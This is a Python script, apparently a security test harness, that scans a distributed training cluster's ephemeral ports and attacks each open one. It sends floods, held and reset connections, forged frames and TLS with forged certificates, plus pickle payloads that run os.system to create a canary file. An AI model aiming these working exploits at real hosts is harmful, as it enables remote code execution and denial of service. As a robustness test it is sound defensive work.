"""A stranger on the network: looks for open ports of hosts, and does to them what comes to mind.

    python attacks.py SECONDS ADDRESS... [--canary PATH]

Each attack is a function of an address and a port, which returns what happened. At the end one line
of JSON says how often each was carried out, at how many ports. The canary is the file that code of
the stranger's would make on a host, if any host ran it.
"""

from __future__ import annotations

import argparse
import contextlib
import json
import os
import pickle
import random
import selectors
import socket
import ssl
import struct
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable, Sequence
from concurrent.futures import ThreadPoolExecutor, wait
from pathlib import Path

# Where systems take the ports that nobody asks for by number.
FIRST, LAST = 32_768, 61_000
SHORT_S = 0.5
Attack = Callable[[str, int], None]

FORGED = json.dumps(
    {
        "notices": {
            "1": {
                "attempt": 0,
                "failing": True,
                "report": [{"host": "beta", "node": 1, "what": "forged", "time_s": 1.0}],
                "stop": "stopped",
                "decision": {"attempt": 0, "status": "failed", "failure": None, "again": False},
                "leaving": True,
            }
        }
    }
).encode()
FRAME = struct.pack(">BII", 1, 0, len(FORGED)) + FORGED


class Touch:
    """Makes the canary where it is unpickled."""

    path = ""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, (f"touch {self.path}",)


def dial(address: str, port: int) -> socket.socket:
    connection = socket.create_connection((address, port), SHORT_S)
    connection.settimeout(SHORT_S)
    return connection


def say(address: str, port: int, content: bytes) -> None:
    with dial(address, port) as connection:
        connection.sendall(content)
        with contextlib.suppress(TimeoutError):
            connection.recv(4096)


def garbage(address: str, port: int) -> None:
    say(address, port, random.randbytes(4096))


def zeros(address: str, port: int) -> None:
    say(address, port, bytes(1 << 20))


def http(address: str, port: int) -> None:
    say(address, port, b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")


def reset(address: str, port: int) -> None:
    for _ in range(20):
        connection = dial(address, port)
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        connection.close()


def hold(address: str, port: int) -> None:
    HELD.extend(dial(address, port) for _ in range(12))


def drip(address: str, port: int) -> None:
    with dial(address, port) as connection:
        for byte in b"\x16\x03\x01":
            connection.sendall(bytes([byte]))
            time.sleep(0.1)


def half_a_hello(address: str, port: int) -> None:
    say(address, port, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + random.randbytes(40))


def large_hello(address: str, port: int) -> None:
    say(address, port, b"\x16\x03\x01\x40\x00" + bytes(1 << 14))


def plain_forged_notice(address: str, port: int) -> None:
    say(address, port, FRAME)


def oversized_frame(address: str, port: int) -> None:
    say(address, port, struct.pack(">BII", 1, 0, 0xFFFFFFFF) + bytes(100_000))


def agent_call(address: str, port: int) -> None:
    call = {"id": 1, "call": "run", "args": {"argv": ["touch", Touch.path]}, "size": 0}
    say(address, port, json.dumps(call).encode() + b"\n")


def negative_size(address: str, port: int) -> None:
    say(address, port, b'{"id": 1, "result": 1, "size": -1}\n')


def tls(address: str, port: int, context: ssl.SSLContext) -> None:
    with dial(address, port) as plain:
        plain.settimeout(2)
        with context.wrap_socket(plain, server_hostname="node-0.x.yoked.internal") as connection:
            connection.sendall(FRAME)
            connection.recv(4096)


def open_context() -> ssl.SSLContext:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    return context


def no_certificate(address: str, port: int) -> None:
    tls(address, port, open_context())


def old_tls(address: str, port: int) -> None:
    context = open_context()
    context.maximum_version = ssl.TLSVersion.TLSv1_2
    tls(address, port, context)


def certificate_of_another_launch(address: str, port: int) -> None:
    context = open_context()
    context.load_cert_chain(CERTIFICATE)
    tls(address, port, context)


def store_query(address: str, port: int) -> None:
    """As torch's client begins: a magic number, then a request to set a key."""
    magic = struct.pack("<BI", 0, 0x3C85F7CE)
    key, value = b"torch.rendezvous.none", pickle.dumps(Touch())
    words = struct.pack("<Q", len(key)) + key + struct.pack("<Q", len(value)) + value
    say(address, port, magic + b"\x01" + words)


def store_flood(address: str, port: int) -> None:
    magic = struct.pack("<BI", 0, 0x3C85F7CE)
    say(address, port, magic + b"\x01" + struct.pack("<Q", 1 << 40) + bytes(1 << 20))


def gloo_places(address: str, port: int) -> None:
    """Gloo's listener expects the number of a pair: take one after the other."""
    for number in range(16):
        HELD.append(dial(address, port))
        HELD[-1].sendall(struct.pack("<Q", number))


def gloo_message(address: str, port: int) -> None:
    """A number of a pair, then a header of a message of a terabyte."""
    say(address, port, struct.pack("<QQQQQQ", 0, 56, 0, 0, 1 << 40, 0) + pickle.dumps(Touch()))


def pickled_object(address: str, port: int) -> None:
    say(address, port, pickle.dumps(Touch()))


def unfinished_line(address: str, port: int) -> None:
    say(address, port, b"a" * (1 << 20))


def datagrams(address: str, port: int) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        for _ in range(20):
            sender.sendto(random.randbytes(512), (address, port))


ATTACKS: tuple[Attack, ...] = (
    garbage,
    zeros,
    http,
    reset,
    drip,
    half_a_hello,
    large_hello,
    plain_forged_notice,
    oversized_frame,
    agent_call,
    negative_size,
    no_certificate,
    old_tls,
    certificate_of_another_launch,
    store_query,
    store_flood,
    gloo_message,
    pickled_object,
    unfinished_line,
    datagrams,
    gloo_places,
    hold,
)

HELD: list[socket.socket] = []
MOST_HELD = 400
CERTIFICATE = ""


def own_certificate(folder: str) -> str:
    """A certificate that says what the stranger likes."""
    path = Path(folder, "stranger.pem")
    subprocess.run(
        [
            *("openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt"),
            *("ec_paramgen_curve:prime256v1", "-nodes", "-keyout", path, "-out", f"{path}.crt"),
            *("-days", "9", "-subj", "/CN=node 1"),
            *("-addext", "subjectAltName=DNS:node-1.0123456789ab.yoked.internal"),
        ],
        check=True,
        capture_output=True,
    )
    with path.open("a") as file:
        file.write(Path(f"{path}.crt").read_text())
    return str(path)


def open_ports(address: str, ports: Sequence[int]) -> list[int]:
    """The ports that take a connection; some hundred are asked at once."""
    found: list[int] = []
    for at in range(0, len(ports), 400):
        with contextlib.ExitStack() as stack, selectors.DefaultSelector() as asked:
            for port in ports[at : at + 400]:
                knock = stack.enter_context(socket.socket())
                knock.setblocking(False)
                knock.connect_ex((address, port))
                asked.register(knock, selectors.EVENT_WRITE, (port, knock))
            until_s = time.monotonic() + 1.0
            while asked.get_map() and (left_s := until_s - time.monotonic()) > 0:
                for key, _ in asked.select(left_s):
                    port, knock = key.data
                    if not knock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
                        found.append(port)
                    asked.unregister(knock)
    return sorted(found)


def main() -> None:
    global CERTIFICATE
    parser = argparse.ArgumentParser()
    parser.add_argument("seconds", type=float)
    parser.add_argument("addresses", nargs="+")
    parser.add_argument("--canary", default="/tmp/canary")
    args = parser.parse_args()
    Touch.path = args.canary
    done = dict.fromkeys((attack.__name__ for attack in ATTACKS), 0)
    seen: dict[str, set[int]] = {address: set() for address in args.addresses}

    def carry_out(attack: Attack, address: str, port: int) -> None:
        with contextlib.suppress(OSError):
            attack(address, port)
        done[attack.__name__] += 1

    with tempfile.TemporaryDirectory() as folder, ThreadPoolExecutor(16) as pool:
        CERTIFICATE = own_certificate(folder)
        sys.stdout.write("ready\n")
        sys.stdout.flush()
        until_s = time.monotonic() + args.seconds
        while time.monotonic() < until_s:
            for address in args.addresses:
                found = open_ports(address, range(FIRST, LAST))
                seen[address].update(found)
                wait(
                    pool.submit(carry_out, attack, address, port)
                    for attack in ATTACKS
                    for port in found
                )
            if len(HELD) > MOST_HELD:
                for connection in HELD[:MOST_HELD]:
                    connection.close()
                del HELD[:MOST_HELD]
    ports_seen = {address: len(ports) for address, ports in seen.items()}
    sys.stdout.write(json.dumps({"done": done, "ports": ports_seen}) + "\n")


if __name__ == "__main__":
    main()
